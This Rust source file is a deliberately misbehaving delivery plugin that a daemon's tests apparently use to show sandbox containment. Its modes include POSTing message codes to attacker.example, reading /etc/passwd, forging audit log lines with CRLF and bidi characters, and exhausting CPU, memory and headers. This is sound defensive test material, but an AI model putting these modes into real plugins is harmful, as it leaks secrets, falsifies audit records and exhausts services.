//! A plugin that misbehaves on purpose, as chosen by its config value `mode`, so that the daemon's tests
//! can show each misbehaviour contained: the delivery fails with a clear error, and the daemon (and the
//! next delivery) carries on.

use std::hint::black_box;

use twofold_plugin_sdk::{
    config_or, handover, http_request, log, DeliveryPlugin, HttpRequest, Message, Outcome,
};

struct Hostile;

impl DeliveryPlugin for Hostile {
    fn deliver(message: Message) -> Outcome {
        match config_or("mode", "").as_str() {
            // Burns CPU until the daemon's deadline stops it.
            "endless-loop" => {
                let mut n: u64 = 0;
                loop {
                    n = black_box(n.wrapping_add(1));
                }
            }
            // Legitimate but CPU-heavy: `rounds` million rounds of arithmetic (about 1 ms of CPU per
            // million on this project's machines), then delivered.
            "cpu-heavy" => {
                let rounds: u64 = config_or("rounds", "50").parse().unwrap_or(50);
                let mut n: u64 = 0;
                for i in 0..rounds * 1_000_000 {
                    n = black_box(n.wrapping_mul(31).wrapping_add(i));
                }
                Outcome::Delivered(format!("worked {rounds}M rounds: {}", n % 10))
            }
            // Grows memory until the daemon's cap refuses.
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            // The panic message carries the code: the daemon must blank it out of its log.
            "panic" => panic!("deliberate panic holding the code {}", message.code),
            // Tries to send the code somewhere it was not allowed to.
            "exfiltrate" => {
                let request = HttpRequest {
                    method: "POST".into(),
                    url: config_or("url", "https://attacker.example/steal"),
                    headers: vec![],
                    body: message.code.into_bytes(),
                };
                match http_request(&request) {
                    Ok(answer) => Outcome::Delivered(format!("exfiltrated, status {}", answer.status)),
                    Err(e) => Outcome::Failed(format!("refused as expected: {}", e.message)),
                }
            }
            // No filesystem exists for plugins.
            "read-file" => match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => Outcome::Delivered(format!("read {} bytes", text.len())),
                Err(e) => Outcome::Failed(format!("read failed: {e}")),
            },
            // Standard output does not exist either.
            "print" => {
                println!("the code is {}", message.code);
                Outcome::Delivered("printed".into())
            }
            // Writes lines of its own into the daemon's log, the handover queue and `twofold-admin
            // deliveries`: a fake audit record and a fake delivered row.
            "forge-lines" => {
                log::warn("gateway slow\r\n2026-12-05T10:00:00.000000Z  INFO twofold::audit: admin=root action=user_delete user=alice FORGED");
                let _ = handover("check ID\nFORGED handover line");
                Outcome::Failed(
                    "gateway said no\nFORGED-ROW  alice  sms  delivered\u{2028}\u{202e}".into(),
                )
            }
            // Hands the host strings as large as its memory cap allows: a log line, a handover note and
            // an outcome reason of `mib` MiB each.
            "huge-strings" => {
                let mib: usize = config_or("mib", "4").parse().unwrap_or(4);
                let huge = "x".repeat(mib << 20);
                log::info(&huge);
                let _ = handover(&huge);
                Outcome::Failed(huge)
            }
            // One request with 10,000 headers of 1 KiB each, a body well under the body limit.
            "header-flood" => {
                let value = "h".repeat(1024);
                let request = HttpRequest {
                    method: "POST".into(),
                    url: config_or("url", "https://127.0.0.1/"),
                    headers: (0..10_000).map(|i| (format!("x-flood-{i}"), value.clone())).collect(),
                    body: message.code.into_bytes(),
                };
                match http_request(&request) {
                    Ok(answer) => Outcome::Delivered(format!("flood sent, status {}", answer.status)),
                    Err(e) => Outcome::Failed(format!("flood refused: {}", e.message)),
                }
            }
            other => Outcome::Failed(format!("unknown mode {other:?}")),
        }
    }
}

twofold_plugin_sdk::export_plugin!(Hostile);
